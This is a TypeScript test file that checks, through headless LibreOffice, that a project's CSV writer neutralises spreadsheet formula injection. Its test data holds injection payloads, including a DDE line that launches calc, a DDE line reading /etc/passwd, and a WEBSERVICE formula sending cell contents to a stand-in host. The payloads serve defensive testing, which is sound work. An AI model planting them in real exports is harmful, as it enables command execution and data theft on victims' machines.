import { execFile } from "node:child_process";
import { mkdtemp, readFile, rm, writeFile } from "node:fs/promises";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { promisify } from "node:util";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import naughtyText from "virtual:shared-data/attacks/blns.json";
import { csvChunks } from "./csvText.ts";

const run = promisify(execFile);
const hasOffice = await run("soffice", ["--version"]).then(
  () => true,
  () => false,
);

// oxlint-disable-next-line no-control-regex -- what no XML can hold, LibreOffice leaves out
const unreadable = /[\u0000-\u0008\u000b\u000c\u000e-\u001f\ufffe\uffff\ufeff]/;

/** Texts that a spreadsheet would run, or take for something else; then whatever else is naughty. */
const hostile = [
  ...'=1+1|+1+1|-1+1|@SUM(1,1)|=1+1;2|\t=1+1|\r=1+1| =1+1|=HYPERLINK("http://x.test")|=cmd|\' /C calc\'!A0|＝1+1|\'=1+1|"=1+1"'.split(
    "|",
  ),
  '=WEBSERVICE("http://x.test/"&A1)',
  '=DDE("soffice";"/etc/passwd";"1")',
  'a "quoted" word',
  "two\nlines",
  "two\r\nlines",
  "comma, semicolon; tab\tend",
  "007",
  "1e5",
  "0x1F",
  " blanks ",
  "١٢٣",
  "\u202Ereversed",
  ...(naughtyText === null ? [] : (JSON.parse(naughtyText) as string[])),
].filter((text) => text !== "" && !unreadable.test(text));
const numbers = [-5, 0, 1.5, -0.25, 1_000_000, -1e-7];

let folder: string;
beforeAll(async () => {
  folder = await mkdtemp(join(tmpdir(), "callboard-office-"));
});
afterAll(() => rm(folder, { recursive: true, force: true }));

/** The cells of a spreadsheet that LibreOffice makes of a CSV file: their types, values and formulas. */
async function cellsOf(
  csv: string,
): Promise<{ type: string; formula: boolean; text: string; value: string | undefined }[]> {
  const file = join(folder, "in.csv");
  await writeFile(file, csv);
  const profile = `-env:UserInstallation=file://${join(folder, "profile")}`;
  // Comma, quote, UTF-8, from the first line, quoted numbers as they are, numbers detected, formulas run.
  const filter = "--infilter=CSV:44,34,76,1,,1033,false,true,false,false,false,-1,true";
  await run("soffice", [profile, "--headless", filter, "--convert-to", "fods", "--outdir", folder, file], {
    timeout: 150_000,
  });
  const xml = await readFile(join(folder, "in.fods"), "utf8");
  const table = xml.slice(xml.indexOf("<table:table "));
  return [...table.matchAll(/<table:table-cell([^>]*[^/])>([\s\S]*?)<\/table:table-cell>/g)].map(
    ([, marks, content]) => ({
      type: /office:value-type="(\w+)"/.exec(marks!)?.[1] ?? "none",
      formula: marks!.includes("table:formula="),
      value: /office:value="([^"]*)"/.exec(marks!)?.[1],
      text: [...content!.matchAll(/<text:p>([\s\S]*?)<\/text:p>|<text:p\/>/g)]
        .map(([, line]) => readXml(line ?? ""))
        .join("\n"),
    }),
  );
}

const readXml = (text: string): string =>
  text
    .replace(/<text:s(?: text:c="(\d+)")?\/>/g, (_, count?: string) => " ".repeat(Number(count ?? 1)))
    .replace(/<text:tab\/>/g, "\t")
    .replace(/<[^>]+>/g, "")
    .replace(
      /&(lt|gt|quot|apos|amp);/g,
      (_, name: string) => ({ lt: "<", gt: ">", quot: '"', apos: "'", amp: "&" })[name]!,
    );

const written = (cells: readonly unknown[]) =>
  [
    ...csvChunks(
      [{ key: "cell", label: "Cell" }],
      cells.map((cell) => ({ cell })),
    ),
  ].join("");

describe.skipIf(!hasOffice)("CSV in LibreOffice, needs soffice", () => {
  it("is a danger where it is written carelessly", async () => {
    const cells = await cellsOf("Cell\n=1+1\n");
    expect(cells.at(-1)).toMatchObject({ formula: true, value: "2" });
  });

  it("runs nothing of what ours holds, and loses none of its words", async () => {
    const cells = await cellsOf(`\ufeff${written(hostile)}`);
    expect(cells.filter((cell) => cell.formula)).toEqual([]);
    const plain = (text: string) =>
      text
        .replace(/\r\n?/g, "\n")
        .replace(/^'/, "")
        .replace(/[\s\u00a0]+/g, " ")
        .trim()
        .toLowerCase();
    const seen = new Set(cells.map((cell) => plain(cell.text)));
    const isNumber = (text: string) => text.trim() !== "" && !Number.isNaN(Number(text));
    expect(
      hostile.filter((text) => !isNumber(text) && !/^[\d/.,:%$€£-]+$/.test(text) && !seen.has(plain(text))),
    ).toEqual([]);
  });

  it("has its numbers as numbers, negative ones too", async () => {
    const cells = (await cellsOf(`\ufeff${written(numbers)}`)).slice(1);
    expect(cells.map((cell) => [cell.type, Number(cell.value)])).toEqual(numbers.map((number) => ["float", number]));
  });
});
